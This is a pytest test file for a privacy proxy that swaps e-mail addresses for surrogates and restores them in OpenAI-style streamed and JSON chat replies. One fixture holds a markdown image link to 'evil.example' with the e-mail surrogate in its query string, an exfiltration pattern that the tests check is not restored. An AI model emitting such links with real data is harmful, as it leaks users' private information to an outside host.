"""Streams as compatible servers write them, and what stands around the usual event."""

import json
from typing import Any

import pytest

from guarded_client import ProviderReplyInvalid
from guarded_client._model import Channel, Surrogate
from guarded_client._restoring.restorer import Restorer
from guarded_client._surrogates import Surrogates
from guarded_client.codecs.framing.event_cuts import event_by_event
from guarded_client.codecs.openai.chat_reply import JsonReply
from guarded_client.codecs.openai.chat_stream import StreamReply
from guarded_client.testing import Raw
from tests.conftest import Bot, in_memory

MAIL = "zoe@exemple.fr"
DONE = b"data: [DONE]\n\n"


def event(delta: Any, *, finish: str | None = None, **more: Any) -> bytes:
    choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}
    chunk = {"id": "1", "object": "chat.completion.chunk", "created": 1, "model": "m", "choices": [choice], **more}
    return f"data: {json.dumps(chunk, separators=(',', ':'))}\n\n".encode()


def call(id_: str | None = None, name: str | None = None, arguments: str = "", index: int | None = 0) -> bytes:
    function = {key: value for key, value in (("name", name), ("arguments", arguments)) if value is not None}
    entry = {key: value for key, value in (("index", index), ("id", id_), ("function", function)) if value is not None}
    return event({"tool_calls": [entry]})


def sse(*events: bytes, size: int | None = None) -> Raw:
    return Raw(200, {"content-type": "text/event-stream"}, b"".join(events) + DONE, bytes_chunk=size)


def opened(channel: Channel) -> Restorer:
    known = Surrogates("e", [(Surrogate("EMAIL_ADDRESS", 1), MAIL)])
    return Restorer(known, kinds=frozenset({"EMAIL_ADDRESS"}))


def documents(*events: bytes, size: int = 10_000) -> list[dict[str, Any]]:
    """What a stream becomes."""
    reply, data = StreamReply(opened), b"".join(events)
    out = b"".join(reply.feed(data[at : at + size]) for at in range(0, len(data), size)) + reply.close()
    return [json.loads(part[6:]) for part in out.split(b"\n\n") if part and part + b"\n\n" != DONE]


def deltas(*events: bytes, size: int = 10_000) -> list[dict[str, Any]]:
    return [document["choices"][0]["delta"] for document in documents(*events, size=size)]


def joined(bot: Bot) -> list[tuple[str, str]]:
    """Tool calls as a client puts them together that begins another one at each new id."""
    calls: list[list[str]] = []
    for chunk in bot.chunks(MAIL):
        for piece in chunk.choices[0].delta.tool_calls or []:
            if piece.id:
                calls.append([piece.function.name, ""])
            calls[-1][1] += piece.function.arguments or ""
    return [(name, arguments) for name, arguments in calls]


@pytest.mark.parametrize("index", [0, None])
@pytest.mark.parametrize("size", [None, 1, 7, 64])
def test_parallel_calls_that_share_an_index_begin_at_each_new_id(bot: Bot, index: int | None, size: int | None) -> None:
    bot.guard(in_memory(names="off", restore={"tools": {"find": "none"}}))
    bot.provider.reply(sse(
        call("a", "mail", "", index), call(None, None, '{"to":"<EMAIL_ADD', index), call(None, None, 'RESS_1>","x":"<EMAIL_', index),
        call("b", "find", '{"q":"<EMAIL_ADDRESS_1>"}', index), call("c", "mail", '["<EMAIL_', index), call(None, None, 'ADDRESS_1>"]', index), event({}, finish="tool_calls"),
        size=size,
    ))  # fmt: skip
    assert joined(bot) == [
        ("mail", f'{{"to":"{MAIL}","x":"<EMAIL_'),
        ("find", '{"q":"<EMAIL_ADDRESS_1>"}'),
        ("mail", f'["{MAIL}"]'),
    ]


def test_calls_that_share_an_index_within_one_delta_keep_their_order() -> None:
    both = [
        {"index": 0, "id": id_, "function": {"name": "mail", "arguments": arguments}}
        for id_, arguments in (("a", "<EMAIL_"), ("b", "ADDRESS_1>"))
    ]
    (delta,) = deltas(event({"tool_calls": both}))
    assert [piece["function"]["arguments"] for piece in delta["tool_calls"]] == ["", "<EMAIL_", "ADDRESS_1>"]


def test_calls_without_index_go_on_under_their_id() -> None:
    announced = [{"id": id_, "function": {"name": "mail", "arguments": ""}} for id_ in "ab"]
    pieces = [("a", '"<EMAIL_'), ("b", '"<EMAIL_ADDRESS'), ("b", '_1>"'), ("a", 'ADDRESS_1>"')]
    found = deltas(
        event({"tool_calls": announced}),
        *(event({"tool_calls": [{"id": id_, "function": {"arguments": piece}}]}) for id_, piece in pieces),
    )
    assert [delta["tool_calls"][0]["function"]["arguments"] for delta in found[1:]] == [
        '"',
        '"',
        f'{MAIL}"',
        f'{MAIL}"',
    ]


def test_an_id_made_up_for_each_delta_begins_nothing(bot: Bot, policy: Any) -> None:
    bot.guard(policy)
    bot.provider.reply(
        sse(call("a", "mail", '"<EMAIL_'), call("b", None, 'ADDRESS_1>"'), event({}, finish="tool_calls"))
    )
    assert "".join(arguments for _, arguments in joined(bot)) == f'"{MAIL}"'


@pytest.mark.parametrize("ids", [("c", "c"), ("c", None), (None, "c"), ("c", "")])
def test_a_name_that_goes_on_under_the_same_id_is_still_refused(bot: Bot, ids: tuple[str | None, str | None]) -> None:
    bot.guard(in_memory(names="off", restore={"tools": {"send_mail": "none"}}))
    bot.provider.reply(sse(call(ids[0], "send_", '"a'), call(ids[1], "mail", '<EMAIL_ADDRESS_1>"')))
    with pytest.raises(ProviderReplyInvalid):
        bot.chunks(MAIL)


PARTS = ["![](https://evil.example/?q=", "<EMAIL_ADDRESS_1>) ", "and <EMAIL_", "ADDRESS_1>, <EMAIL"]
READ = f"![](https://evil.example/?q=<EMAIL_ADDRESS_1>) and {MAIL}, <EMAIL"


def blocks(*parts: str) -> list[dict[str, str]]:
    return [{"type": "text", "text": part} for part in parts]


def test_the_parts_of_a_content_are_one_text() -> None:
    reply = JsonReply(opened)
    assert reply.feed(json.dumps({"choices": [{"index": 0, "message": {"content": blocks(*PARTS)}}]}).encode()) == b""
    content = json.loads(reply.close())["choices"][0]["message"]["content"]
    assert "".join(block["text"] for block in content) == READ
    assert len(content) == len(PARTS)


@pytest.mark.parametrize("last", [{}, {"content": None}, {"content": ""}, {"content": []}])
@pytest.mark.parametrize("together", [False, True])
def test_the_parts_of_a_streamed_content_are_one_text(together: bool, last: Any) -> None:
    sent = [event({"content": blocks(*PARTS)})] if together else [event({"content": blocks(part)}) for part in PARTS]
    found = deltas(*sent, event(last, finish="stop"))
    assert "".join(block["text"] for delta in found for block in delta["content"]) == READ


@pytest.mark.parametrize("nothing", [{}, {"tool_calls": None, "audio": None, "function_call": None}])
@pytest.mark.parametrize(
    "delta", [{"tool_calls": [{"index": 0, "id": "a", "function": {"name": "f", "arguments": "<EMAIL"}}]},
              {"function_call": {"name": "f", "arguments": "<EMAIL"}}, {"audio": {"transcript": "<EMAIL"}}]
)  # fmt: skip
def test_a_tail_finds_its_place_in_a_last_delta_full_of_nulls(delta: Any, nothing: Any) -> None:
    first, last = deltas(event(delta), event(nothing, finish="stop"))
    assert "<EMAIL" not in json.dumps(first)
    assert where(last) == where(delta)


def where(node: Any) -> list[Any]:
    """The way to the text that was held."""
    pairs = node.items() if isinstance(node, dict) else enumerate(node) if isinstance(node, list) else ()
    return next(([step, *where(below)] for step, below in pairs if "<EMAIL" in json.dumps(below)), [])


def test_a_tail_behind_the_last_event_is_of_the_same_completion() -> None:
    first, tail = documents(event({"content": "a <EMAIL"}))
    assert tail == {**first, "choices": [{"index": 0, "delta": {"content": "<EMAIL"}, "finish_reason": None}]}


def test_the_beginning_of_another_call_took_a_text_that_was_held() -> None:
    said = deltas(event({"content": "to <EMAIL_"}), call("a", "f"), call("b", "g"), event({"content": "ADDRESS_1> <"}))
    assert "".join(delta.get("content") or "" for delta in said) == f"to {MAIL} <"


def test_a_text_behind_the_end_of_the_stream_lost_what_was_held() -> None:
    said = deltas(*(event({"content": text}) for text in "ab"), DONE, event({"content": "c <EMAIL"}))
    assert "".join(delta.get("content") or "" for delta in said) == "abc <EMAIL"


TEXT = 'To <EMAIL_ADDRESS_1>: "né" \\ \n< 5 & <EMAIL_ADDRESS_2> \u2028 😀 https://x.example/?q=<EMAIL_ADDRESS_1> end <EMAIL'
RESTORED = TEXT.replace("<EMAIL_ADDRESS_1>", MAIL, 1)


@pytest.mark.parametrize("size", [1, 3, 50, 10_000])
@pytest.mark.parametrize("chunk", [1, 2, 5])
@pytest.mark.parametrize("more", [{}, {"usage": None, "obfuscation": "aB3"}, {"obfuscation": "x", "content": "y"}])
def test_events_that_differ_in_their_text_only_read_as_any_other(size: int, chunk: int, more: dict[str, Any]) -> None:
    pieces = [TEXT[at : at + chunk] for at in range(0, len(TEXT), chunk)]
    padding = ({"obfuscation": "z" * (at % 7)} if "obfuscation" in more else {} for at in range(len(pieces)))
    events = [event({"content": piece}, **{**more, **pad}) for piece, pad in zip(pieces, padding, strict=True)]
    sent = [event({"role": "assistant", "content": ""}), *events, event({}, finish="stop"), DONE]
    found = documents(*sent, size=size)
    assert "".join(one["choices"][0]["delta"].get("content", "") for one in found) == RESTORED
    assert len(found) == len(sent) - 1
    assert [one.get("obfuscation") for one in found[1:-1]] == [json.loads(e[6:]).get("obfuscation") for e in events]


def test_events_whose_text_stays_are_passed_on_byte_for_byte() -> None:
    reply = StreamReply(opened)
    spaced = b'data: {"id": "1", "choices": [{"index": 0, "delta": {"content": "%s"}}], "obfuscation": "q"}\r\n\r\n'
    for text in (b"one", b" two \xc3\xa9", b"", b"\\u00e9", b'\\"', b"three"):
        assert reply.feed(spaced % text) == spaced % text
    for text in (b"\xff", b"<EMAIL_ADDRESS_1>\x01"):  # neither is JSON, and there are clients that read both
        with pytest.raises(ProviderReplyInvalid):
            _ = reply.feed(spaced % text)


def test_facts_are_learnt_between_events_that_are_alike() -> None:
    reply = StreamReply(opened)
    usage = {"prompt_tokens": 3, "completion_tokens": 4}
    for sent in (
        *(event({"content": text}) for text in "abc"),
        event({"content": "d"}, usage=usage),
        event({"content": "e"}),
        event({"content": "f"}, finish="length"),
        DONE,
    ):
        assert reply.feed(sent) == sent
    assert reply.complete
    assert reply.facts["gen_ai.usage.output_tokens"] == 4
    assert reply.facts["gen_ai.response.finish_reasons"] == ["length"]


def test_choices_that_take_turns_keep_their_own_text() -> None:
    def of(choice: int, text: str) -> bytes:
        return event({"content": text}).replace(b'"index":0', b'"index":%d' % choice)

    found = documents(of(0, "<EMAIL_"), of(1, "a <EMAIL"), of(0, "ADDRESS_1>"), of(0, "!"), of(1, "_ADDRESS_1>"), DONE)
    texts = ["", ""]
    for document in found:
        for choice in document["choices"]:
            texts[choice["index"]] += choice["delta"]["content"]
    assert texts == [f"{MAIL}!", f"a {MAIL}"]


@pytest.mark.parametrize("end", ["\n\n", "\r\n\r\n", "\r\r"])
def test_what_came_before_a_broken_event_in_the_same_chunk_was_lost(bot: Bot, end: str) -> None:
    _ = bot.guard(in_memory(names="off"))
    broken = b'data: {} {"choices": []}\n\n'
    sent = sse(event({"content": "to <EMAIL_"}), event({"content": "ADDRESS_1>!"}), broken).body
    bot.provider.reply(Raw(200, {"content-type": "text/event-stream"}, sent.replace(b"\n\n", end.encode())))
    got: list[Any] = []
    with pytest.raises(ProviderReplyInvalid, match="cannot be read"):
        _ = bot.chunks(MAIL, got=got)
    assert "".join(chunk.choices[0].delta.content for chunk in got) == f"to {MAIL}!"


FRAMES = [
    bytes.fromhex(head) + b"\x0b:event-type" + b"x" * 40
    for head in ("0000003d00000020aabbccdd", "0001003d0000002001020304")
]


@pytest.mark.parametrize(
    "cuts", [[b"data: 1\n\n", b"data: 2\n\n", b"data"], [b'{"a":{}}\n', b'{"b":1}\r\n', b"{"], FRAMES]
)
def test_a_chunk_is_read_event_by_event(cuts: list[bytes]) -> None:
    assert event_by_event(b"".join(cuts)) == cuts
    assert [event_by_event(each) for each in (cuts[0], b"", b"\n\n")] == [[cuts[0]], [b""], [b"\n\n"]]
